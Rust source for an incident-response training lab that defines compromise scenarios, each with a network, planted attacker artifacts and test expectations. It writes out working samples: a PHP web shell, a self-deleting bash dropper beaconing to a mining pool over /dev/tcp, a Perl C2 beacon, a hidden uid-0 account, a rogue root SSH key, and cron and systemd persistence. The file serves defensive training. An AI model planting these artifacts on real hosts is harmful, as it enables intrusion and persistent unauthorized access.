//! Incident scenarios: each one a network, a compromised host, what the
//! attacker planted there, and, as data the tests check against, what is
//! malicious and what is innocent and must survive a response untouched.
//! `hound lab scenarios --json` prints them; `lab up` saves the running
//! one in its run folder (`scenario.json`).

use super::topology::{Host, Segment, BOT, BOT_PATH, ORIGINAL_HOSTS, ORIGINAL_SEGMENTS};
use serde::Serialize;

/// A process pattern: a substring of its command line or executable path.
#[derive(Debug, Serialize)]
pub struct Proc {
    pub what: &'static str,
    pub pattern: &'static str,
}

/// A persistence entry or an approval item: a whole file (`line: None`) or
/// one exact line of a file the host needs for other things.
#[derive(Debug, Serialize)]
pub struct Entry {
    pub what: &'static str,
    pub path: &'static str,
    pub line: Option<&'static str>,
}

/// What a response must remove.
#[derive(Debug, Serialize)]
pub struct Malicious {
    pub processes: &'static [Proc],
    /// Payloads, droppers, web shells (files that must be gone).
    pub files: &'static [&'static str],
    pub persistence: &'static [Entry],
    /// Accounts and keys: plan items that need explicit approval; they stay
    /// until approved.
    pub approval: &'static [Entry],
}

/// What a response must leave alone.
#[derive(Debug, Serialize)]
pub struct Innocent {
    pub processes: &'static [Proc],
    /// Files that must stay byte-identical (symlinks: the same target).
    pub files: &'static [&'static str],
    /// `addr:port` an innocent periodic job keeps talking to.
    pub flows: &'static [&'static str],
}

/// One step of planting a scenario on its compromised host.
#[derive(Debug)]
pub enum Step {
    /// A file (parent folders created), with mode and `user:group`.
    Write {
        path: &'static str,
        content: &'static str,
        mode: u32,
        owner: &'static str,
    },
    /// Lines added to the host's private copy of a file (/etc/passwd).
    Append {
        path: &'static str,
        content: &'static str,
    },
    Link {
        path: &'static str,
        target: &'static str,
    },
    /// A command, waited for.
    Run(&'static [&'static str]),
    /// A detached process, as `uid:gid` when given.
    Start {
        argv: &'static [&'static str],
        user: Option<&'static str>,
    },
    /// A web-shell request from another lab host: a form POST of `c=CMD`.
    Post {
        from: &'static str,
        to: &'static str,
        path: &'static str,
        command: &'static str,
    },
    /// Until a process whose command line contains this runs.
    WaitProc(&'static str),
    /// Until this path is gone (a dropper that deletes its binary).
    WaitGone(&'static str),
}

#[derive(Debug, Serialize)]
pub struct Scenario {
    pub name: &'static str,
    pub summary: &'static str,
    pub story: &'static str,
    /// The host the playbook runs on.
    pub compromised: &'static str,
    /// The address reported as attacked, and its port.
    pub victim: &'static str,
    pub victim_port: u16,
    /// `addr:port` services that must keep answering.
    pub services: &'static [&'static str],
    pub malicious: Malicious,
    pub innocent: Innocent,
    pub segments: &'static [Segment],
    pub hosts: &'static [Host],
    #[serde(skip)]
    pub steps: &'static [Step],
}

impl Scenario {
    /// The playbook's parameters, from the scenario's declared victim.
    pub fn params(&self) -> Vec<String> {
        vec![
            format!("victim={}", self.victim),
            format!("victim_port={}", self.victim_port),
            format!("services={}", self.services.join(",")),
        ]
    }

    pub fn host(&self, name: &str) -> Option<&'static Host> {
        self.hosts.iter().find(|h| h.name == name)
    }
}

/// A scenario with its playbook parameters, as `--json` prints it.
#[derive(Serialize)]
pub struct Described<'a> {
    #[serde(flatten)]
    pub scenario: &'a Scenario,
    pub params: Vec<String>,
}

pub fn describe(s: &Scenario) -> Described<'_> {
    Described {
        scenario: s,
        params: s.params(),
    }
}

pub const DEFAULT: &str = "original";

pub fn all() -> &'static [Scenario] {
    SCENARIOS
}

pub fn find(name: &str) -> Option<&'static Scenario> {
    SCENARIOS.iter().find(|s| s.name == name)
}

/// The processes every lab host runs: its init (pid 1 of its own PID
/// namespace). Killing it would end the host.
const INIT: Proc = Proc {
    what: "the host's init (pid 1 of its PID namespace)",
    pattern: "lab init",
};

static SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "original",
        summary: "the incident as it happened: a shell loop in /tmp starts nc against 10.0.0.196:80 every 2 s",
        story: "An outside company reports attacks on 10.0.0.196 from this network. server01 \
                (172.20.0.10) runs `bash /tmp/bot.sh`, a loop that starts `nc -zv 10.0.0.196 80` \
                every two seconds. No persistence.",
        compromised: "server",
        victim: "10.0.0.196",
        victim_port: 80,
        services: &["172.20.0.10:22", "172.20.0.10:80", "172.20.0.10:3306"],
        malicious: Malicious {
            processes: &[Proc {
                what: "the bot loop",
                pattern: BOT_PATH,
            }],
            files: &[BOT_PATH],
            persistence: &[],
            approval: &[],
        },
        innocent: Innocent {
            processes: &[
                INIT,
                Proc {
                    what: "ssh, Apache and MariaDB",
                    pattern: "lab serve --role server",
                },
            ],
            files: &["/etc/passwd"],
            flows: &[],
        },
        segments: ORIGINAL_SEGMENTS,
        hosts: ORIGINAL_HOSTS,
        steps: &[
            Step::Write {
                path: BOT_PATH,
                content: BOT,
                mode: 0o755,
                owner: "root:root",
            },
            Step::Start {
                argv: &["bash", BOT_PATH],
                user: None,
            },
            Step::WaitProc(BOT_PATH),
        ],
    },
    Scenario {
        name: "webshell",
        summary: "a Perl beacon in /var/tmp/.cache-x started by the web server through a web shell; cron.d and systemd persistence, a uid-0 account and an SSH key",
        story: "198.51.100.50 uploaded /var/www/html/uploads/.thumb.php through the upload form \
                of www (192.168.56.20:8080), then POSTed a command to it: the web server (httpd) \
                wrote /var/tmp/.cache-x/dbus-notify.pl and started it. The beacon checks in with \
                198.51.100.23:443 every 3 s. The attacker added /etc/cron.d/dbus-notify, \
                dbus-notify.service (enabled), the uid-0 account sysupdate and an SSH key for root. \
                www-logrotate (cron.d) and www-backup.service are the admins' own.",
        compromised: "www",
        victim: "198.51.100.23",
        victim_port: 443,
        services: &["192.168.56.20:22", "192.168.56.20:8080"],
        malicious: Malicious {
            processes: &[Proc {
                what: "the Perl beacon, child of the web server",
                pattern: "/var/tmp/.cache-x/dbus-notify.pl",
            }],
            files: &[
                "/var/tmp/.cache-x/dbus-notify.pl",
                "/var/www/html/uploads/.thumb.php",
            ],
            persistence: &[
                Entry {
                    what: "cron.d job running the beacon",
                    path: "/etc/cron.d/dbus-notify",
                    line: None,
                },
                Entry {
                    what: "systemd unit running the beacon",
                    path: "/etc/systemd/system/dbus-notify.service",
                    line: None,
                },
                Entry {
                    what: "the unit's wants link (enabled)",
                    path: "/etc/systemd/system/multi-user.target.wants/dbus-notify.service",
                    line: None,
                },
            ],
            approval: &[
                Entry {
                    what: "backdoor uid-0 account",
                    path: "/etc/passwd",
                    line: Some(WS_ACCOUNT),
                },
                Entry {
                    what: "attacker's SSH key for root",
                    path: "/root/.ssh/authorized_keys",
                    line: Some(WS_BAD_KEY),
                },
            ],
        },
        innocent: Innocent {
            processes: &[
                INIT,
                Proc {
                    what: "the web server (httpd) and sshd",
                    pattern: "lab serve --role www",
                },
            ],
            files: &[
                "/etc/cron.d/www-logrotate",
                "/etc/systemd/system/www-backup.service",
                "/etc/systemd/system/multi-user.target.wants/www-backup.service",
                "/usr/local/bin/www-backup",
                "/var/www/html/index.html",
                "/var/www/html/upload.php",
                "/var/www/html/uploads/logo.png",
            ],
            flows: &[],
        },
        segments: &[
            Segment {
                name: "dmz",
                router_addr: "192.168.56.1/24",
                router_mac: "52:54:00:38:00:01",
            },
            Segment {
                name: "internet",
                router_addr: "198.51.100.1/24",
                router_mac: "52:54:00:64:00:01",
            },
        ],
        hosts: &[
            Host {
                name: "analyst",
                segment: Some("dmz"),
                addr: "192.168.56.100/24",
                mac: "52:54:00:38:00:64",
                serve: None,
                what: "the responder's seat",
            },
            Host {
                name: "www",
                segment: Some("dmz"),
                addr: "192.168.56.20/24",
                mac: "52:54:00:38:00:14",
                serve: Some("www"),
                what: "web server: ssh 22, http 8080 (httpd, web root /var/www/html); runs the beacon",
            },
            Host {
                name: "c2",
                segment: Some("internet"),
                addr: "198.51.100.23/24",
                mac: "52:54:00:64:00:17",
                serve: Some("c2"),
                what: "the attacker's command and control (443)",
            },
            Host {
                name: "attacker",
                segment: Some("internet"),
                addr: "198.51.100.50/24",
                mac: "52:54:00:64:00:32",
                serve: None,
                what: "where the web-shell requests come from",
            },
        ],
        steps: &[
            Step::Write {
                path: "/var/www/html/index.html",
                content: WS_INDEX,
                mode: 0o644,
                owner: "root:root",
            },
            Step::Write {
                path: "/var/www/html/upload.php",
                content: WS_UPLOAD,
                mode: 0o644,
                owner: "root:root",
            },
            Step::Write {
                path: "/var/www/html/uploads/logo.png",
                content: "\u{89}PNG\r\n\u{1a}\n(lab logo)\n",
                mode: 0o644,
                owner: "root:root",
            },
            Step::Write {
                path: "/var/www/html/uploads/.thumb.php",
                content: "<?php if(isset($_POST['c'])){system($_POST['c']);} ?>\n",
                mode: 0o644,
                owner: "root:root",
            },
            Step::Write {
                path: "/etc/cron.d/www-logrotate",
                content: "# rotate the web logs\n17 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf >/dev/null 2>&1\n",
                mode: 0o644,
                owner: "root:root",
            },
            Step::Write {
                path: "/etc/cron.d/dbus-notify",
                content: "SHELL=/bin/sh\n*/5 * * * * root pgrep -f dbus-notify.pl >/dev/null || /usr/bin/perl /var/tmp/.cache-x/dbus-notify.pl >/dev/null 2>&1\n",
                mode: 0o644,
                owner: "root:root",
            },
            Step::Write {
                path: "/usr/local/bin/www-backup",
                content: "#!/bin/sh\n# nightly copy of the web root\ntar -czf /var/backups/www.tgz -C /var/www html\n",
                mode: 0o755,
                owner: "root:root",
            },
            Step::Write {
                path: "/etc/systemd/system/www-backup.service",
                content: "[Unit]\nDescription=Copy of the web root\n\n[Service]\nType=oneshot\nExecStart=/usr/local/bin/www-backup\n\n[Install]\nWantedBy=multi-user.target\n",
                mode: 0o644,
                owner: "root:root",
            },
            Step::Link {
                path: "/etc/systemd/system/multi-user.target.wants/www-backup.service",
                target: "/etc/systemd/system/www-backup.service",
            },
            Step::Write {
                path: "/etc/systemd/system/dbus-notify.service",
                content: "[Unit]\nDescription=D-Bus notification relay\nAfter=network-online.target\n\n[Service]\nExecStart=/usr/bin/perl /var/tmp/.cache-x/dbus-notify.pl\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n",
                mode: 0o644,
                owner: "root:root",
            },
            Step::Link {
                path: "/etc/systemd/system/multi-user.target.wants/dbus-notify.service",
                target: "/etc/systemd/system/dbus-notify.service",
            },
            Step::Append {
                path: "/etc/passwd",
                content: concat!("sysupdate:x:0:0:System Update:/root:/bin/bash", "\n"),
            },
            Step::Append {
                path: "/etc/shadow",
                content: "sysupdate:$6$Lab0nly$Jr1b0p6S0X2c3bDq1Yd3hQ0lS8f8I1a7k9mQ2n4p6r8t0v2x4z6B8D0F2H4J6L8N0P2R4T6V8X0Z2b4d6f8h0:20420:0:99999:7:::\n",
            },
            Step::Write {
                path: "/root/.ssh/authorized_keys",
                content: concat!(
                    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx0YWRtaW4ta2V5LWZvci10aGUtbGFiLW9ubHkx admin@corp-laptop\n",
                    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHN5c3VwZGF0ZS1iYWNrZG9vci1sYWItb25seTI sysupdate@198.51.100.23",
                    "\n"
                ),
                mode: 0o600,
                owner: "root:root",
            },
            Step::Post {
                from: "attacker",
                to: "192.168.56.20:8080",
                path: "/uploads/.thumb.php",
                command: WS_DROP,
            },
            Step::WaitProc("/var/tmp/.cache-x/dbus-notify.pl"),
        ],
    },
    Scenario {
        name: "deleted-miner",
        summary: "a miner running from a deleted copy of bash in /dev/shm/.k, started from the deploy user's crontab, holding connections to a pool at 192.0.2.77:3333",
        story: "On the CI host ci (10.40.0.15) the deploy user's crontab gained a line that runs \
                /home/deploy/.cache/.kupd, a dropper that copies bash to /dev/shm/.k/kdevtmpfsi, \
                starts it as a daemon (its parent is init) and deletes it. The miner logs in to \
                192.0.2.77:3333 every few seconds. The crontab's other line (prune-artifacts) and \
                deploy's build agent are legitimate.",
        compromised: "ci",
        victim: "192.0.2.77",
        victim_port: 3333,
        services: &["10.40.0.15:22", "10.40.0.15:8081"],
        malicious: Malicious {
            processes: &[Proc {
                what: "the miner (a deleted copy of bash)",
                pattern: "kdevtmpfsi",
            }],
            files: &[DM_DROPPER],
            persistence: &[Entry {
                what: "the deploy user's crontab line",
                path: "/var/spool/cron/crontabs/deploy",
                line: Some(DM_CRON_LINE),
            }],
            approval: &[],
        },
        innocent: Innocent {
            processes: &[
                INIT,
                Proc {
                    what: "the CI service and sshd",
                    pattern: "lab serve --role ci",
                },
                Proc {
                    what: "deploy's build agent",
                    pattern: "/home/deploy/bin/build-agent.sh",
                },
            ],
            files: &[
                "/home/deploy/bin/prune-artifacts.sh",
                "/home/deploy/bin/build-agent.sh",
                "/etc/passwd",
            ],
            flows: &[],
        },
        segments: &[
            Segment {
                name: "build",
                router_addr: "10.40.0.1/24",
                router_mac: "02:42:0a:28:00:01",
            },
            Segment {
                name: "internet",
                router_addr: "192.0.2.1/24",
                router_mac: "02:42:c0:00:02:01",
            },
        ],
        hosts: &[
            Host {
                name: "analyst",
                segment: Some("build"),
                addr: "10.40.0.100/24",
                mac: "02:42:0a:28:00:64",
                serve: None,
                what: "the responder's seat",
            },
            Host {
                name: "ci",
                segment: Some("build"),
                addr: "10.40.0.15/24",
                mac: "02:42:0a:28:00:0f",
                serve: Some("ci"),
                what: "CI host: ssh 22, http 8081 (Jenkins); runs the miner",
            },
            Host {
                name: "pool",
                segment: Some("internet"),
                addr: "192.0.2.77/24",
                mac: "02:42:c0:00:02:4d",
                serve: Some("pool"),
                what: "the mining pool (stratum 3333)",
            },
        ],
        steps: &[
            Step::Append {
                path: "/etc/passwd",
                content: "deploy:x:1001:1001:CI deploy:/home/deploy:/bin/bash\n",
            },
            Step::Append {
                path: "/etc/group",
                content: "deploy:x:1001:\n",
            },
            Step::Write {
                path: "/home/deploy/bin/prune-artifacts.sh",
                content: "#!/bin/sh\n# keep the last 20 builds\nls -1dt /home/deploy/builds/* 2>/dev/null | tail -n +21 | xargs -r rm -rf\n",
                mode: 0o755,
                owner: "1001:1001",
            },
            Step::Write {
                path: "/home/deploy/bin/build-agent.sh",
                content: "#!/bin/bash\n# waits for jobs from the CI master\nwhile true; do sleep 5; done\n",
                mode: 0o755,
                owner: "1001:1001",
            },
            Step::Write {
                path: DM_DROPPER,
                content: DM_DROPPER_TEXT,
                mode: 0o700,
                owner: "1001:1001",
            },
            Step::Write {
                path: "/var/spool/cron/crontabs/deploy",
                content: DM_CRONTAB,
                mode: 0o600,
                owner: "1001:1001",
            },
            Step::Run(&["chown", "1001:1001", "/home/deploy", "/home/deploy/bin", "/home/deploy/.cache"]),
            Step::Start {
                argv: &["/bin/bash", "/home/deploy/bin/build-agent.sh"],
                user: Some("1001:1001"),
            },
            Step::Start {
                argv: &["/bin/bash", DM_DROPPER, "192.0.2.77", "3333"],
                user: Some("1001:1001"),
            },
            Step::WaitProc("kdevtmpfsi"),
            Step::WaitGone("/dev/shm/.k/kdevtmpfsi"),
        ],
    },
    Scenario {
        name: "admin-parent",
        summary: "a beacon in /tmp/.ICE-unix whose parent is the legitimate backup loop /usr/local/sbin/backup-loop.sh, which keeps pushing backups to the NAS",
        story: "On the file server files (10.20.30.40), /usr/local/sbin/backup-loop.sh pushes a \
                manifest to the NAS (10.20.30.50:873) every 3 s and runs one-off jobs queued in \
                /var/spool/backup-queue. The attacker queued a job that started \
                /tmp/.ICE-unix/ice-sync, a loop running `nc -z 203.0.113.45 8443` every 3 s, so \
                the beacon's parent is the backup loop. The loop and its NAS traffic are innocent.",
        compromised: "files",
        victim: "203.0.113.45",
        victim_port: 8443,
        services: &["10.20.30.40:22", "10.20.30.40:445"],
        malicious: Malicious {
            processes: &[Proc {
                what: "the beacon loop, child of the backup loop",
                pattern: "/tmp/.ICE-unix/ice-sync",
            }],
            files: &["/tmp/.ICE-unix/ice-sync"],
            persistence: &[],
            approval: &[],
        },
        innocent: Innocent {
            processes: &[
                INIT,
                Proc {
                    what: "the backup loop",
                    pattern: "/usr/local/sbin/backup-loop.sh",
                },
                Proc {
                    what: "sshd and smbd",
                    pattern: "lab serve --role files",
                },
            ],
            files: &[
                "/usr/local/sbin/backup-loop.sh",
                "/etc/default/backup-loop",
                "/var/backups/data/shares.conf",
            ],
            flows: &["10.20.30.50:873"],
        },
        segments: &[
            Segment {
                name: "corp",
                router_addr: "10.20.30.1/24",
                router_mac: "00:16:3e:14:1e:01",
            },
            Segment {
                name: "internet",
                router_addr: "203.0.113.1/24",
                router_mac: "00:16:3e:cb:71:01",
            },
        ],
        hosts: &[
            Host {
                name: "analyst",
                segment: Some("corp"),
                addr: "10.20.30.100/24",
                mac: "00:16:3e:14:1e:64",
                serve: None,
                what: "the responder's seat",
            },
            Host {
                name: "files",
                segment: Some("corp"),
                addr: "10.20.30.40/24",
                mac: "00:16:3e:14:1e:28",
                serve: Some("files"),
                what: "file server: ssh 22, smb 445, the backup loop; runs the beacon",
            },
            Host {
                name: "nas",
                segment: Some("corp"),
                addr: "10.20.30.50/24",
                mac: "00:16:3e:14:1e:32",
                serve: Some("nas"),
                what: "the backup NAS (rsync 873), logs each push in /var/log/rsyncd.log",
            },
            Host {
                name: "relay",
                segment: Some("internet"),
                addr: "203.0.113.45/24",
                mac: "00:16:3e:cb:71:2d",
                serve: Some("relay"),
                what: "the attacker's relay (8443)",
            },
        ],
        steps: &[
            Step::Write {
                path: "/etc/default/backup-loop",
                content: "# where backup-loop.sh pushes, and how often\nNAS=10.20.30.50\nNAS_PORT=873\nINTERVAL=3\n",
                mode: 0o644,
                owner: "root:root",
            },
            Step::Write {
                path: "/var/backups/data/shares.conf",
                content: "[public]\npath = /srv/public\nread only = yes\n",
                mode: 0o644,
                owner: "root:root",
            },
            Step::Write {
                path: "/usr/local/sbin/backup-loop.sh",
                content: AP_LOOP,
                mode: 0o755,
                owner: "root:root",
            },
            Step::Write {
                path: "/tmp/.ICE-unix/ice-sync",
                content: "#!/bin/sh\n# ICE session sync\nwhile :; do nc -z -w 2 203.0.113.45 8443; sleep 3; done\n",
                mode: 0o755,
                owner: "root:root",
            },
            Step::Run(&["chmod", "1777", "/tmp/.ICE-unix"]),
            Step::Write {
                path: "/var/spool/backup-queue/0001.job",
                content: "/tmp/.ICE-unix/ice-sync >/dev/null 2>&1 &\n",
                mode: 0o644,
                owner: "root:root",
            },
            Step::Start {
                argv: &["/bin/bash", "/usr/local/sbin/backup-loop.sh"],
                user: None,
            },
            Step::WaitProc("/tmp/.ICE-unix/ice-sync"),
            Step::WaitGone("/var/spool/backup-queue/0001.job"),
        ],
    },
];

const WS_ACCOUNT: &str = "sysupdate:x:0:0:System Update:/root:/bin/bash";
const WS_BAD_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHN5c3VwZGF0ZS1iYWNrZG9vci1sYWItb25seTI sysupdate@198.51.100.23";
const WS_INDEX: &str = "<!DOCTYPE html>\n<html><head><title>Acme photo share</title></head>\n<body><h1>Acme photo share</h1><img src=\"/uploads/logo.png\"><a href=\"/upload.php\">upload</a></body></html>\n";
const WS_UPLOAD: &str = "<?php\n// photo upload (checks the extension only)\nif (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . $_FILES['f']['name']); echo \"stored\"; }\n?>\n<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form>\n";

/// The command the attacker POSTs to the web shell: write the beacon and
/// become it, so the web server is its parent.
const WS_DROP: &str = concat!(
    "mkdir -p /var/tmp/.cache-x && printf '%s' '",
    "#!/usr/bin/perl\n",
    "# dbus-notify: desktop notification relay\n",
    "use strict;\n",
    "use IO::Socket::INET;\n",
    "my ($h, $p) = (\"198.51.100.23\", 443);\n",
    "while (1) {\n",
    "    my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p, Proto => \"tcp\", Timeout => 5);\n",
    "    if ($s) { print $s \"HELO www\\n\"; my $c = <$s>; close($s); }\n",
    "    sleep 3;\n",
    "}\n",
    "' > /var/tmp/.cache-x/dbus-notify.pl && chmod 700 /var/tmp/.cache-x/dbus-notify.pl",
    " && exec /usr/bin/perl /var/tmp/.cache-x/dbus-notify.pl"
);

const DM_DROPPER: &str = "/home/deploy/.cache/.kupd";
const DM_CRON_LINE: &str =
    "*/10 * * * * /bin/bash /home/deploy/.cache/.kupd 192.0.2.77 3333 >/dev/null 2>&1";
const DM_CRONTAB: &str = concat!(
    "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n",
    "# (/tmp/crontab.Xy3k2A installed on Sat Nov 28 03:12:44 2026)\n",
    "# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n",
    "# m h  dom mon dow   command\n",
    "*/20 * * * * /home/deploy/bin/prune-artifacts.sh >/dev/null 2>&1\n",
    "*/10 * * * * /bin/bash /home/deploy/.cache/.kupd 192.0.2.77 3333 >/dev/null 2>&1\n",
);
/// Copies bash under a kernel-thread-like name, starts it as a daemon that
/// logs in to the pool over /dev/tcp, then deletes the copy.
const DM_DROPPER_TEXT: &str = r#"#!/bin/bash
d=/dev/shm/.k
mkdir -p "$d" && cp /bin/bash "$d/kdevtmpfsi" || exit 1
loop='while :; do if exec 3<>/dev/tcp/'"$1/$2"'; then printf "{\"method\":\"login\",\"params\":{\"agent\":\"XMRig/6.21.0\"}}\n" >&3; read -r -t 4 -u 3 _; read -r -t 4 -u 3 _; exec 3>&-; else sleep 4; fi; done'
(cd / && exec -a kdevtmpfsi "$d/kdevtmpfsi" -c "$loop" </dev/null >/dev/null 2>&1 &)
sleep 1
rm -f "$d/kdevtmpfsi"
"#;

const AP_LOOP: &str = r#"#!/bin/bash
# backup-loop: pushes the data manifest to the NAS every few seconds and
# runs one-off jobs (restores, re-indexing) queued by the admins' tools.
. /etc/default/backup-loop
mkdir -p /var/spool/backup-queue
while true; do
    for job in /var/spool/backup-queue/*.job; do
        [ -e "$job" ] || continue
        . "$job"
        rm -f "$job"
    done
    find /var/backups/data -type f | sort > /var/backups/manifest
    cat /var/backups/manifest 2>/dev/null > "/dev/tcp/$NAS/$NAS_PORT"
    sleep "$INTERVAL"
done
"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scenarios_are_consistent() {
        assert_eq!(all()[0].name, DEFAULT);
        assert!(all().len() >= 4);
        for s in all() {
            assert!(s.host(s.compromised).is_some(), "{}", s.name);
            for h in s.hosts {
                if let Some(seg) = h.segment {
                    assert!(s.segments.iter().any(|g| g.name == seg), "{}", h.name);
                }
                assert!(h.name.len() <= 8, "{} fits veth names", h.name);
                assert_ne!(h.name, super::super::topology::ROUTER);
            }
            assert!(!s.malicious.processes.is_empty(), "{}", s.name);
            let steps = format!("{:?}", s.steps);
            for e in s.malicious.persistence.iter().chain(s.malicious.approval) {
                if let Some(line) = e.line {
                    assert!(steps.contains(line), "{line}");
                }
            }
            let p = s.params();
            assert!(p[0].starts_with("victim=") && p[2].contains(':'), "{p:?}");
        }
    }

    #[test]
    fn each_scenario_has_its_own_addresses_and_paths() {
        let all = all();
        for (i, a) in all.iter().enumerate() {
            for b in &all[i + 1..] {
                assert_ne!(a.victim, b.victim);
                for f in a.malicious.files {
                    assert!(!b.malicious.files.contains(f), "{f}");
                }
                for h in a.hosts {
                    assert!(
                        h.addr.is_empty() || !b.hosts.iter().any(|g| g.addr == h.addr),
                        "{}",
                        h.addr
                    );
                }
            }
        }
    }
}
